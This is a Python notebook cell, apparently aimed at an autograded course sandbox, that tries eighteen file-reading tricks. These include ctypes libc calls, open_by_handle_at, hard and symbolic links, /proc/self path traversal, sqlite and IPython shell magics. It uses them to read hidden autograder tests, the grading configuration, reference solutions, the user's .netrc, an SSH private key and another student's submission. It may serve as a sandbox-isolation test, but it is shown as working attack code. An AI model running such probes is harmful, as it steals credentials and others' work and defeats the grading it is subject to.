# %%
import ctypes, fcntl, io, linecache, mmap, os, shutil, sqlite3
import numpy, torch

def by_descriptor(path):
    print(os.read(os.open(path, os.O_RDONLY), 10_000))

def by_path_only(path):
    descriptor = os.open(path, os.O_PATH)
    print(open(f"/proc/self/fd/{descriptor}").read())

def by_folder(path):
    folder = os.open(os.path.dirname(path), os.O_PATH)
    print(os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder), 10_000))

def by_mmap(path):
    with open(path, "r+b") as stream:
        print(mmap.mmap(stream.fileno(), 0)[:])

def by_libc(path):
    libc, buffer = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(10_000)
    print(libc.read(libc.open(path.encode(), 0), buffer, 10_000), buffer.value)

def by_name_to_handle(path):
    libc, handle = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(bytes([128, 0, 0, 0]), 136)
    libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    print(os.read(libc.open_by_handle_at(-100, handle, 0), 10_000))

def by_link(path):
    os.link(path, "here")
    print(open("here").read())

def by_symlink(path):
    os.symlink(path, "there")
    print(open("there").read())

ways = [
    by_descriptor, by_path_only, by_folder, by_mmap, by_libc, by_name_to_handle, by_link, by_symlink,
    lambda path: print(io.open_code(path).read()),
    lambda path: print(linecache.getlines(path)),
    lambda path: print(numpy.fromfile(path, dtype="uint8").tobytes()),
    lambda path: print(torch.from_file(path, size=500, dtype=torch.uint8).numpy().tobytes()),
    lambda path: print(open(shutil.copy(path, "copy")).read()),
    lambda path: print(open(f"/proc/self/root{path}").read()),
    lambda path: print(open(f"/proc/self/cwd/../../../../../../../..{path}").read()),
    lambda path: print(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from sqlite_master")),
    lambda path: print(get_ipython().run_line_magic("run", path)),
    lambda path: print(get_ipython().getoutput(f"cat {path}")),
]
paths = ["@COURSE@/autograder/lab/test_lab.py", "@COURSE@/grading.toml", "@COURSE@/solutions/lab.py"]
paths += ["@HOME@/.netrc", "@HOME@/.ssh/id_ed25519", "@SUBMITTED@/a-neighbour/lab/lab.py"]
for path in paths:
    for way in ways:
        try:
            way(path)
        except Exception as error:
            print(type(error).__name__)
# %%
#right
